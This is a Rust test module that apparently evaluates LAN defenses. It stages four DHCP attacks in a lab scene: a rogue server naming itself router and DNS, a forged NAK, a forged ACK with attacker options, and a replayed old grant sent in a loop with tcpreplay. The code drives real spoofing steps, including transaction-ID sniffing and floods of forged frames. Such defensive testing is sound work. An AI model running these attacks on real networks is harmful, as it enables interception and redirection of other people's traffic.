//! Attacks 21, 24 and 26, and 25 where it is on the client: whom a DHCP client believes about its address, router and DNS server.

use std::net::Ipv4Addr;
use std::path::Path;
use std::time::Duration;

use crate::attack::dhcp::{AT_ONCE, Cast, SOON, finding, is_forged};
use crate::attack::lease::{Client, Server};
use crate::attack::scene::{Finding, Scene};
use crate::failure::Failure;
use crate::guard::{DHCP_SERVER, Guard};
use crate::net::lan::INTERFACE;
use crate::net::{Frame, Host, Running, pcap, process};

const REPLY_PROGRAM: &str = include_str!("dhcp_reply.py");
const ROGUE_PROGRAM: &str = include_str!("rogue.py");
/// An address of [`ROGUE_POOL`].
const ROGUE_LEASE: &str = "10.77.0.200";
/// What the attacker's server gives.
const ROGUE_POOL: [u8; 2] = [200, 210];
/// How long scapy may take to its start on a loaded machine.
const READER_START: Duration = Duration::from_secs(20);
/// How long a client is made to renew, again and again, while its answers are forged; and how often.
const RENEWALS: Duration = Duration::from_millis(2500);
const RENEWAL_INTERVAL: Duration = Duration::from_millis(300);
/// How long tcpreplay may take until its first frame.
const START: Duration = Duration::from_millis(300);
/// How fast a recorded answer is sent: fast enough to be there before the server's own.
const PER_SECOND: u32 = 2000;

/// Attack 21: the attacker's dnsmasq answers faster than the server, which pings what it offers, and names itself as router
/// and DNS server. Where DHCP travels in frames of its own, which no dnsmasq reads, a program of ours answers them as well.
pub fn rogue_server(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let cast = Cast::of(scene)?;
    let _server = cast.serve(scene, &[])?;
    let _rogue = Server::start(scene, &cast.attacker, ROGUE_POOL, AT_ONCE)?;
    let _reader = if scene.guard == Guard::Cll { Some(launch_reader(scene, &cast)?) } else { None };
    let window = scene.open()?;
    let client = Client::start(scene, &cast.client)?;
    let belief = Belief::of(&client, &cast)?;
    let record = scene.close(window)?;
    let is_rogue = |frame: &Frame| frame.source() == cast.attacker.mac && frame.dhcp().is_some();
    Ok(finding(record, belief.is_false, belief.is_right, belief.said, is_rogue))
}

fn launch_reader(scene: &Scene<'_>, cast: &Cast) -> Result<Running, Failure> {
    let own = &cast.attacker;
    let words = [own.mac.to_string(), own.ip.to_string(), ROGUE_LEASE.to_owned(), cast.client.mac.to_string()];
    let words: Vec<String> = [INTERFACE.to_owned()].into_iter().chain(words).chain(["30".to_owned()]).collect();
    let mut reader = scene.launch_scapy(own, ROGUE_PROGRAM, &words)?;
    reader.await_output("listening", READER_START)?;
    Ok(reader)
}

/// Which router and which DNS server a client believes in.
struct Belief {
    is_right: bool,
    is_false: bool,
    said: String,
}

impl Belief {
    fn of(client: &Client, cast: &Cast) -> Result<Belief, Failure> {
        let (router, resolver) = (client.router()?, client.resolver()?);
        let is = |host: &Host| router == Some(host.ip) && resolver == Some(host.ip);
        let (is_right, is_false) = (is(&cast.server), is(&cast.attacker));
        let name = match (is_right, is_false) {
            (true, _) => "the server's",
            (_, true) => "the attacker's",
            _ => "neither's",
        };
        Ok(Belief { is_right, is_false, said: format!("e has {}, router and DNS {name}", client.ip) })
    }
}

/// Attack 24: while e renews its lease, the attacker refuses in the server's name.
pub fn injected_refusal(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    answer_first(scene, "nak", |client, _| Ok(client.wrote("nak")? > 0 && !client.has_address()?))
}

/// Attack 26: while e renews its lease, the attacker grants it in the server's name, with itself as router and DNS server.
pub fn injected_options(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    answer_first(scene, "ack", |client, cast| Ok(Belief::of(client, cast)?.is_false))
}

fn answer_first(
    scene: &Scene<'_>,
    kind: &str,
    is_fooled: fn(&Client, &Cast) -> Result<bool, Failure>,
) -> Result<Finding, Failure> {
    let cast = Cast::of(scene)?;
    let _server = cast.serve(scene, AT_ONCE)?;
    let spy = scene.spy()?;
    let client = Client::start(scene, &cast.client)?;
    let transaction = transaction_of(&spy.stop()?, &cast)?;
    let window = scene.open()?;
    let (own, other) = (&cast.attacker, &cast.client);
    let mut words = vec![kind.to_owned(), INTERFACE.to_owned(), own.mac.to_string(), own.ip.to_string()];
    words.extend([other.mac.to_string(), client.ip.to_string(), cast.server.ip.to_string(), transaction]);
    words.push("6".to_owned());
    let mut flood = scene.launch_scapy(own, REPLY_PROGRAM, &words)?;
    flood.await_output("sending", SOON)?;
    let fooled = renew_until(&client, || is_fooled(&client, &cast))?;
    drop(flood);
    let renewals = client.answers()? - 1;
    let keeps = client.has_address()? && Belief::of(&client, &cast)?.is_right && client.wrote("nak")? == 0;
    let fate = if client.has_address()? { Belief::of(&client, &cast)?.said } else { "e left its address".to_owned() };
    let record = scene.close(window)?;
    let said = format!("{fate}, renewals answered: {renewals}");
    Ok(finding(record, fooled, keeps && renewals > 0, said, is_forged))
}

/// The transaction of e's exchange, as the attacker hears it: a client keeps it for as long as it has the lease.
fn transaction_of(heard: &[Frame], cast: &Cast) -> Result<String, Failure> {
    let mut asked = heard.iter().filter(|frame| frame.source() == cast.client.mac).filter_map(Frame::dhcp);
    let message = asked.next().ok_or_else(|| Failure::Unreadable("the attacker heard no DISCOVER".to_owned()))?;
    Ok(message[4..8].iter().map(|byte| format!("{byte:02x}")).collect())
}

/// Makes `client` renew its lease until `is_fooled`, or often enough; returns whether it was.
fn renew_until(client: &Client, is_fooled: impl Fn() -> Result<bool, Failure>) -> Result<bool, Failure> {
    process::within(RENEWALS, || {
        client.renew()?;
        process::pause(RENEWAL_INTERVAL)?;
        is_fooled()
    })
}

/// Attack 25: what the server granted when it still named itself as router is sent again while e renews, after the site got
/// another router, of which e hears nothing that way.
pub fn replayed_grant(scene: &mut Scene<'_>) -> Result<Finding, Failure> {
    let (cast, former, present) = (Cast::of(scene)?, scene.host(DHCP_SERVER)?.ip, scene.host("b")?.ip);
    let options = scene.file("options");
    name_router(&options, former)?;
    let server = cast.serve(scene, &[AT_ONCE[0], &format!("--dhcp-optsfile={}", options.display())])?;
    let spy = scene.spy()?;
    let client = Client::start(scene, &cast.client)?;
    let heard = spy.stop()?;
    // With its proof taken out a grant is another frame, with the same options.
    let is_former = |frame: &Frame| is_grant(frame, &cast, former);
    let grants: Vec<Frame> = heard.into_iter().filter(is_former).collect();
    name_router(&options, present)?;
    server.reread()?;
    if grants.is_empty() {
        return Err(Failure::Unreadable("the attacker heard no ACK".to_owned()));
    }
    let window = scene.open()?;
    let flood = replay_for_ever(scene, &cast, &grants)?;
    process::pause(START)?;
    let before = client.answers()?;
    let fooled = renew_until(&client, || Ok(client.router()? == Some(former)))?;
    drop(flood);
    let (renewals, learns) = (client.answers()? - before, client.router()? == Some(present));
    let record = scene.close(window)?;
    let said =
        format!("e has {} router, renewals answered: {renewals}", if fooled { "the former" } else { "the present" });
    Ok(finding(record, fooled, learns && renewals > 0, said, is_former))
}

/// Writes the file of options by which dnsmasq names `router`.
fn name_router(file: &Path, router: Ipv4Addr) -> Result<(), Failure> {
    std::fs::write(file, format!("option:router,{router}\n")).map_err(Failure::file("writing", file))
}

/// Whether `frame` is an ACK for e with this router.
fn is_grant(frame: &Frame, cast: &Cast, router: Ipv4Addr) -> bool {
    let option = [&[3, 4][..], &router.octets()].concat();
    // The type stands behind the cookie in what dnsmasq writes.
    let is_ack = frame.dhcp().is_some_and(|message| message[240..].starts_with(&[53, 1, 5]));
    is_ack && frame.destination() == cast.client.mac && frame.contains(&option)
}

/// Starts to send `frames` from the attacker again and again.
fn replay_for_ever(scene: &Scene<'_>, cast: &Cast, frames: &[Frame]) -> Result<Running, Failure> {
    let file = scene.file("replay.pcap");
    pcap::write(&file, frames)?;
    let words = ["-q", "-i", INTERFACE, &format!("--pps={PER_SECOND}"), "--loop=0", &file.to_string_lossy()];
    scene.launch(&cast.attacker, "tcpreplay", &words.map(str::to_owned))
}
